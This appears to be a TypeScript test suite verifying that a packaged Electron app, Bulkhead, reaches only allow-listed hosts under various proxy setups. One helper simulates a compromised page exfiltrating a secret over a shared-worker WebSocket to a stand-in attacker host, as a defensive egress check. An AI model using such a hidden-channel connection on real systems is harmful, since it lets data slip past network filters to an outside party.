import { type Bulkhead, expect, test } from '../../support/bulkhead.ts';
import { CONNECTING_WORKER, connectFromSharedWorker } from '../../support/hidden-channel.ts';
import { ATTACKER, openHostile, serve, serveScript } from '../../support/hostile-page.ts';
import { isListed, LISTED_HOSTS } from '../../support/listed-hosts.ts';
import { withDriven } from '../../support/packaged/driven.ts';
import { type NetworkRecord, startNetworkRecord } from '../../support/packaged/network-record.ts';
import { ownAddress } from '../../support/packaged/place.ts';
import {
  type ProxyManner,
  type RecordingProxy,
  startRecordingProxy,
} from '../../support/packaged/recording-proxy.ts';
import { listenForNotices } from '../../support/refusals.ts';
import { contosoIn, workADay } from '../../support/working-day.ts';

// T13: whom the packaged app reaches, in a network in which everything is written down: names by the
// name server, connections by the cloud and by the system's proxy, and by the kernel whatever goes
// elsewhere. The proxy is set as a system without a desktop has it, which no switch of the app is.

/**
 * What a browser fetches by itself, it does soon after its start, and nothing shows that the time has
 * come, so time has to pass. For the whole ten minutes of T13: `BULKHEAD_TEST_IDLE_SECONDS=600`.
 */
const IDLE_MS = 1_000 * Number(process.env['BULKHEAD_TEST_IDLE_SECONDS'] ?? 10);

test.setTimeout(240_000 + IDLE_MS);

let record: NetworkRecord;
let proxy: RecordingProxy | undefined;
test.beforeEach(async () => {
  record = await startNetworkRecord();
});
test.afterEach(async () => {
  await proxy?.close();
  proxy = undefined;
  await record.close();
});

/** The system's proxy, for all but the hosts that are named. */
async function systemProxy(manner: ProxyManner, cloudPort: number, except: readonly string[] = []) {
  proxy = await startRecordingProxy(manner, cloudPort);
  const address = `http://${proxy.address}`;
  return {
    proxy,
    variables: { http_proxy: address, https_proxy: address, no_proxy: except.join(',') },
  };
}

const hostOf = (target: string) => target.replace(/:443$/, '');
const unlisted = (names: readonly string[]) => names.map(hostOf).filter((name) => !isListed(name));

/** A page that was taken over tries a way past the request filter to a host that is on no list. */
async function tryHiddenChannel(bulkhead: Bulkhead, cloud: Parameters<typeof contosoIn>[0]) {
  serveScript(cloud, '/shared.js', CONNECTING_WORKER);
  const address = serve(cloud, '/taken', '<body>');
  const page = await openHostile(bulkhead, contosoIn(cloud).id, address);
  await page.evaluate(connectFromSharedWorker, `wss://${ATTACKER}/?secret`);
}

test('a connection to an address would be seen', async ({ cloud, profileDir }) => {
  await withDriven({ cloud, profileDir }, async (bulkhead) => {
    await bulkhead.electron.app.evaluate(async () => {
      const net = process.getBuiltinModule('net');
      await new Promise((resolve) => {
        net.connect(443, '203.0.113.9').on('error', resolve).on('connect', resolve);
      });
    });

    expect(await record.reached()).toContain('tcp 203.0.113.9 443');
  });
});

test('without a proxy, nothing but listed hosts is looked up or reached', async ({
  cloud,
  profileDir,
}) => {
  await withDriven({ cloud, profileDir }, async (bulkhead, names) => {
    await bulkhead.shell.waitForTimeout(IDLE_MS);
    expect(names.names()).toEqual([]);
    expect(cloud.requests.connections()).toEqual([]);

    await workADay(bulkhead, cloud);
    await tryHiddenChannel(bulkhead, cloud);

    expect(names.names()).toContain('graph.microsoft.com');
    expect(unlisted(names.names())).toEqual([]);
    expect(unlisted(cloud.requests.connections().map(({ serverName }) => serverName))).toEqual([]);
    expect(await record.reached()).toEqual([]);
  });
});

test('with a proxy, every connection goes through it and no name is looked up', async ({
  cloud,
  profileDir,
}) => {
  const { variables, proxy: asked } = await systemProxy('leads', cloud.port);
  await withDriven({ cloud, profileDir, variables }, async (bulkhead, names) => {
    await bulkhead.shell.waitForTimeout(IDLE_MS);
    expect(asked.asked()).toEqual([]);

    await workADay(bulkhead, cloud);

    expect(asked.asked()).toContain('graph.microsoft.com:443');
    expect(unlisted(asked.asked())).toEqual([]);
    expect(names.names()).toEqual([]);
    expect(await record.reached()).toEqual([]);
  });
});

test('with a black hole for all but the listed hosts, nothing goes anywhere else', async ({
  cloud,
  profileDir,
}) => {
  const { variables, proxy: asked } = await systemProxy('refuses', cloud.port, LISTED_HOSTS);
  await withDriven({ cloud, profileDir, variables }, async (bulkhead, names) => {
    await workADay(bulkhead, cloud);
    expect(asked.asked()).toEqual([]);

    await tryHiddenChannel(bulkhead, cloud);

    // The hole is where it ends.
    expect(asked.asked().map(hostOf)).toEqual([ATTACKER]);
    expect(unlisted(names.names())).toEqual([]);
    expect(await record.reached()).toEqual([]);
  });
});

test('with a proxy script that cannot be had, listed hosts alone are reached', async ({
  cloud,
  profileDir,
}) => {
  // Nobody listens there.
  const variables = { auto_proxy: `http://${ownAddress('proxy')}:8081/proxy.pac` };
  await withDriven({ cloud, profileDir, variables }, async (bulkhead, names) => {
    await workADay(bulkhead, cloud);
    await tryHiddenChannel(bulkhead, cloud);

    expect(names.names()).toContain('graph.microsoft.com');
    expect(unlisted(names.names())).toEqual([]);
    expect(await record.reached()).toEqual([]);
  });
});

test('a proxy that wants a password gets none, and nothing goes around it', async ({
  cloud,
  profileDir,
}) => {
  const { variables, proxy: asked } = await systemProxy('wants a password', cloud.port);
  await withDriven({ cloud, profileDir, variables }, async (bulkhead, names) => {
    const notices = await listenForNotices(bulkhead);
    const { id: tenantId } = await bulkhead.call('tenants', 'add', contosoIn(cloud));
    await bulkhead.call('compartments', 'openPortal', { tenantId, portalId: 'defender' });

    const view = async () => (await bulkhead.workspace()).compartments[0]?.views[0];
    await expect.poll(async () => (await view())?.state).toBe('failed');
    expect((await view())?.problem).toMatch(/proxy/i);
    expect(asked.asked()).toContain('security.microsoft.com:443');
    expect(asked.credentials()).toEqual([]);
    expect(JSON.stringify(await notices())).toMatch(/password/);
    expect(names.names()).toEqual([]);
    expect(cloud.requests.connections()).toEqual([]);
    expect(await record.reached()).toEqual([]);
  });
});
